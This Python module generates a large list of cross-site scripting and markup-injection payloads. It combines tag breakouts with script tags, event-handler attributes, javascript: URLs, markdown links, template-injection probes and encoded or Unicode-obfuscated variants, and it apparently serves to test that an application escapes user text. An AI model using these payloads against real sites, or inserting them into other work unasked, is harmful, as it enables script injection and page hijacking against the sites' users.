"""Payloads that would run, or break the page, wherever a text became markup: each way out with each way in."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

RUN = "alert(1)"
# What a text may stand in, and how one leaves it.
WAYS_OUT = (
    *("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</q></blockquote>"),
    *(
        '" ',
        "' ",
        "</bdi></h1>",
        "</mark>",
        "</td></tr></table>",
        "</button></form>",
        "\n\n",
        '\\">',
        "&quot;>",
        "</noscript>",
    ),
)
_EVENTS = (
    ("img", "src=x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("object", "data=x", "onerror"),
    ("iframe", "srcdoc=x", "onload"),
    ("embed", "src=/static/icon.svg", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("style", "", "onload"),
    ("marquee", "", "onstart"),
    ("p", "tabindex=1 autofocus", "onfocus"),
    ("math", "tabindex=1 autofocus", "onfocus"),
    ("a", "tabindex=1 autofocus", "onfocus"),
    ("x-y", "tabindex=1 autofocus", "onfocus"),
    ("dialog", "open", "onbeforetoggle"),
    ("track", "src=x default", "onerror"),
    ("script", "src=x", "onerror"),
)
_WHOLE = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>ici</a>',
    f'<form action="javascript:{RUN}"><button autofocus>ici</button></form>',
    '<base href="https://ailleurs.example/">',
    '<meta http-equiv="refresh" content="0;url=https://ailleurs.example/">',
    '<link rel="stylesheet" href="https://ailleurs.example/x.css">',
    "<style>*{display:none!important}</style>",
    '<form action="https://ailleurs.example/"><input id="question" name="question">',
    '<img src="https://ailleurs.example/x.png">',
    '<p style="position:fixed;inset:0;width:9999px;background:red">',
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "<table><tr><td>",
    "<dialog open>",
    '<a id="question" name="question">',
    "<frameset>",
    "<body background=x>",
    f"[ici](javascript:{RUN})",
    f"![ici](javascript:{RUN})",
    f"<javascript:{RUN}>",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
)
# Strings that no way out changes.
_PLAIN = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "\u202e\u2066" * 50,
    "a\u0300\u0301\u0302\u0303" * 200,
    "\ufdfd" * 100,
    "W" * 1900,
    "\u00a0" * 300 + "x",
    "x\u00ad" * 500,
    "\u200d".join("👩👩👧👦" * 50),
    "\u2028\u2029" * 50 + "x",
)


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys(_all()))


def sample(count: int) -> list[str]:
    """So many of them, from all over the list."""
    found = payloads()
    return found[:: max(1, len(found) // count)][:count]


def _all() -> Iterator[str]:
    yield from _PLAIN
    for way_out in WAYS_OUT:
        for way_in in (*_WHOLE, *_handlers()):
            yield way_out + way_in
    for way_in in (*_WHOLE, *_handlers()):
        yield from (escape(way_in), escape(escape(way_in)), quote(way_in), quote(quote(way_in)))
        yield way_in.replace("<", "<\x00").replace("=", "\x0c=")


def _handlers() -> Iterator[str]:
    for tag, given, event in _EVENTS:
        yield f"<{tag} {given} {event}={RUN}>"
        yield f'<{tag.upper()}/{given}/{event.upper()}="{RUN}">'
        yield f"<{tag}\n{given}\t{event}\r\n='{RUN}' x"
